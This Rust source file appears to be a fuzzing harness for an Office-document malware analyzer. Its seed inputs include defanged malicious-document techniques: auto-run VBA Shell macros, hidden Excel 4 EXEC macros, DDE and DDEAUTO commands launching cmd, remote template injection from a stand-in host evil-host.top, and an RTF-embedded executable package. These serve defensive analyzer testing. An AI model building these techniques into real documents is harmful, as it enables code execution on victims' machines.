//! Office documents: the whole, and each part inside of an honest document around it, which no fuzzer would find by itself.

use analyzers::{Analyzer, Budget, Cancel, Evidence, Findings, LayerId, Limits, Record, Sample};
use analyzers_ole_macro::{Office, vba_modules};
use specimens::biff::{self, Hidden, Workbook, call, join, text};
use specimens::cfb::CfbBuilder;
use specimens::ooxml::{docm, docx, field, word, xlsm};
use specimens::samples::samples;
use specimens::vba::{VbaBuilder, bomb, compress};
use specimens::zip::ZipBuilder;
use specimens::{quine, rtf as rich};
use triage::{CfbKind, FileKind, OoxmlKind, triage};

use crate::whole::small_limits;

fn examine(bytes: &[u8], kind: FileKind) -> Vec<Evidence> {
    let record = Record::new(kind, Budget::new(small_limits(), Cancel::default()));
    let mut findings = Findings::new(record, LayerId::ARTIFACT);
    Office.analyze(Sample { bytes, kind }, &mut findings);
    let (record, children) = findings.finish();
    assert!(children.len() as u64 <= small_limits().entries_max);
    record.evidence
}

fn examine_twice(bytes: &[u8], kind: FileKind) {
    assert_eq!(examine(bytes, kind), examine(bytes, kind));
}

/// The whole, as what triage takes it for and as what it may be, and behind the header of an honest compound file.
pub(crate) fn document(bytes: &[u8]) {
    examine_twice(bytes, triage(bytes));
    for kind in [FileKind::Cfb(CfbKind::Word), FileKind::Ooxml(OoxmlKind::Docm), FileKind::Rtf] {
        examine(bytes, kind);
    }
    let mut compound = vec![0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
    compound.extend([0; 16]);
    for number in [0x3e, 3, 0xfffe, 9, 6, 0, 0, 0_u16] {
        compound.extend(number.to_le_bytes());
    }
    // The FAT is sector 0, the directory sector 1, the mini FAT sector 2.
    for number in [0, 1, 1, 0, 4096, 2, 1, u32::MAX - 1, 0, 0] {
        compound.extend(number.to_le_bytes());
    }
    compound.resize(512, 0xff);
    compound.extend(bytes);
    examine(&compound, FileKind::Cfb(CfbKind::Excel));
}

/// As the compressed source of a module (MS-OVBA 2.4.1), as a module's source, and as the project's list of modules.
pub(crate) fn vba(bytes: &[u8]) {
    let hostile = VbaBuilder::new().document("ThisDocument", "Sub a()\r\nEnd Sub\r\n").compressed(bytes).doc();
    examine_twice(&hostile, FileKind::Cfb(CfbKind::Word));
    let modules = vba_modules(&hostile);
    assert!(
        modules.iter().map(|module| module.source.len() as u64).sum::<u64>() <= Limits::default().produced_bytes_max
    );
    let source = VbaBuilder::new().module_bytes("Module1", bytes).doc();
    examine(&source, FileKind::Cfb(CfbKind::Word));
    let listed = CfbBuilder::new()
        .stream("WordDocument", &[0; 4096])
        .stream("Macros/VBA/dir", &compress(bytes))
        .stream("Macros/VBA/Module1", bytes)
        .stream("Macros/VBA/_VBA_PROJECT", bytes)
        .stream("Macros/PROJECT", bytes);
    examine(&listed.build(), FileKind::Cfb(CfbKind::Word));
}

/// As the stream `Workbook`: records of BIFF8, sheets of Excel 4 macros among them.
pub(crate) fn workbook(bytes: &[u8]) {
    examine_twice(&biff::document(bytes), FileKind::Cfb(CfbKind::Excel));
    // The same as the tokens of a formula that runs when the workbook is opened.
    let formula = Workbook::new().macro_sheet("Macro1", Hidden::Very).raw_formula(0, 0, bytes).auto_open();
    examine(&formula.document(), FileKind::Cfb(CfbKind::Excel));
}

/// As a sheet and as the workbook of a binary package (MS-XLSB).
pub(crate) fn binary_workbook(bytes: &[u8]) {
    for name in ["xl/macrosheets/sheet1.bin", "xl/workbook.bin", "xl/worksheets/sheet1.bin"] {
        examine_twice(&xlsm().part(name, bytes).build(), FileKind::Ooxml(OoxmlKind::Xlsb));
    }
}

/// As a package, and with an honest local header before it: nothing is unpacked beyond the budget.
pub(crate) fn zip(bytes: &[u8]) {
    examine_twice(bytes, FileKind::Ooxml(OoxmlKind::Docm));
    let before = ZipBuilder::new().entry("[Content_Types].xml", b"<Types/>").entry("word/document.xml", b"").build();
    examine(&[&before[..], bytes].concat(), FileKind::Ooxml(OoxmlKind::Docx));
}

/// As the relationships of a document, and its content types.
pub(crate) fn relationships(bytes: &[u8]) {
    for name in ["word/_rels/document.xml.rels", "word/_rels/settings.xml.rels", "_rels/.rels", "[Content_Types].xml"] {
        examine_twice(&docx().part(name, bytes).build(), FileKind::Ooxml(OoxmlKind::Docx));
    }
}

/// As the text of a document, where fields are, and as the instruction of a field.
pub(crate) fn fields(bytes: &[u8]) {
    examine_twice(&docx().part("word/document.xml", bytes).build(), FileKind::Ooxml(OoxmlKind::Docx));
    if let Ok(instruction) = str::from_utf8(bytes) {
        let body = word(&field(&[instruction]));
        examine(&docx().part("word/document.xml", body.as_bytes()).build(), FileKind::Ooxml(OoxmlKind::Docx));
        examine(rich::rtf(&rich::field(instruction)).as_slice(), FileKind::Rtf);
    }
}

/// As rich text, and as the data of an object in it.
pub(crate) fn rtf(bytes: &[u8]) {
    examine_twice(bytes, FileKind::Rtf);
    for words in ["\\objemb", "\\objemb\\objupdate"] {
        examine(&rich::rtf(&rich::object(words, bytes)), FileKind::Rtf);
    }
    examine(&rich::rtf(&rich::object("\\objemb", &rich::ole1("Package", bytes))), FileKind::Rtf);
}

pub(crate) fn document_seeds() -> Vec<Vec<u8>> {
    let is_document = |bytes: &Vec<u8>| matches!(triage(bytes), FileKind::Cfb(_) | FileKind::Ooxml(_) | FileKind::Rtf);
    samples().into_iter().map(|(_, bytes)| bytes).filter(is_document).collect()
}

pub(crate) fn vba_seeds() -> Vec<Vec<u8>> {
    let source =
        "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nShell Environ(\"TEMP\") & Chr(65)\r\nEnd Sub\r\n";
    vec![compress(source.as_bytes()), source.as_bytes().to_vec(), bomb(b'a', 100_000), vec![1, 0, 0xb0]]
}

pub(crate) fn workbook_seeds() -> Vec<Vec<u8>> {
    let formula = join(text("https://198.51.100.7/"), text("a"));
    let sheet = |hidden| Workbook::new().worksheet("Sheet1", Hidden::No).macro_sheet("Macro1", hidden);
    vec![
        sheet(Hidden::Very).formula(0, 0, &call("EXEC", [formula])).auto_open().build(),
        sheet(Hidden::No).value("x").shared_string("text").dde_link("cmd", "/c calc").build(),
        biff::record(0x0809, &[0; 16]),
    ]
}

pub(crate) fn binary_workbook_seeds() -> Vec<Vec<u8>> {
    let formula = call("EXEC", [text("calc")]);
    vec![biff::binary_sheet(&[(0, 0, formula)]), biff::binary_workbook("Macro1", Hidden::Very, "_xlnm.Auto_Open")]
}

pub(crate) fn zip_seeds() -> Vec<Vec<u8>> {
    let project = VbaBuilder::new().document("ThisDocument", "Sub a()\r\nEnd Sub\r\n").bin();
    vec![
        docm().vba_project(&project).build(),
        ZipBuilder::new().entry("a.zip", &docx().build()).build(),
        quine::quine(),
    ]
}

pub(crate) fn relationship_seeds() -> Vec<Vec<u8>> {
    let target = "<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/\
                  relationships/attachedTemplate\" Target=\"https://evil-host.top/a.dotm\" TargetMode=\"External\"/>\
                  </Relationships>";
    let types = "<Types><Override PartName=\"/word/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>\
                 </Types>";
    vec![target.into(), types.into(), b"<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>".to_vec()]
}

pub(crate) fn field_seeds() -> Vec<Vec<u8>> {
    let instruction = "DDEAUTO c:\\\\nowhere\\\\cmd.exe \"/k rem\"";
    vec![
        instruction.into(),
        word(&field(&[instruction])).into_bytes(),
        word(&field(&["DDE", " QUOTE 67 "])).into_bytes(),
    ]
}

pub(crate) fn rtf_seeds() -> Vec<Vec<u8>> {
    vec![
        rich::rtf(&rich::object("\\objemb\\objupdate", &rich::ole1("Equation.3", &[0x1c; 64]))),
        rich::rtf(&rich::object("\\objemb", &rich::ole1("Package", &rich::package("a.exe", b"MZ")))),
        rich::rtf(&rich::field("DDEAUTO cmd")),
        rich::ole1_link("Word.Document.8", "https://evil-host.top/"),
    ]
}
